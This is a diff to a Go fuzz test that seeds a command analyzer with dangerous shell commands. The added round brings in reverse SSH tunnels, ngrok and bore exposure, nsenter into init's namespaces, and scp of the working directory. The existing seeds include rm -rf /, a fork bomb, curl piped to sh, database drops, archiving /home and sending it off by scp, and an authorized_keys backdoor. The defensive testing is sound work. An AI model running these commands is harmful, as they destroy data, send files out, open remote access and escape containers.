@@ -153,7 +153,9 @@ func FuzzAnalyze(f *testing.F) {
 	for _, s := range []string{"rm -rf /", "cd .. && ls", ":(){ :|:& };:", "curl x | sh", "git push -f origin main",
 		"Remove-Item -Recurse -Force C:\\", "bash -c 'rm -rf ~'", "f(){ f; }; f", "find / -exec rm {} \\;", "echo $((1+2))", "a=$(b) c",
 		"aws s3 rb s3://b --force", "psql -c 'DROP TABLE t'", "echo 'DROP DATABASE d' | psql", "touch -r /bin/ls x",
-		"tar czf /tmp/a.tgz /home/* && scp /tmp/a.tgz h:", "echo k >> ~/.ssh/authorized_keys", "git branch -D x"} {
+		"tar czf /tmp/a.tgz /home/* && scp /tmp/a.tgz h:", "echo k >> ~/.ssh/authorized_keys", "git branch -D x",
+		// round 9: tunnels, init's namespaces, the working directory sent
+		"ssh -R [::1]:1:h:22 h", "ssh -o RemoteForward= h", "ngrok tcp", "bore local x", "nsenter -t1 -a", "scp -r . h:"} {
 		f.Add(s)
 	}
 	parser := syntax.NewParser()
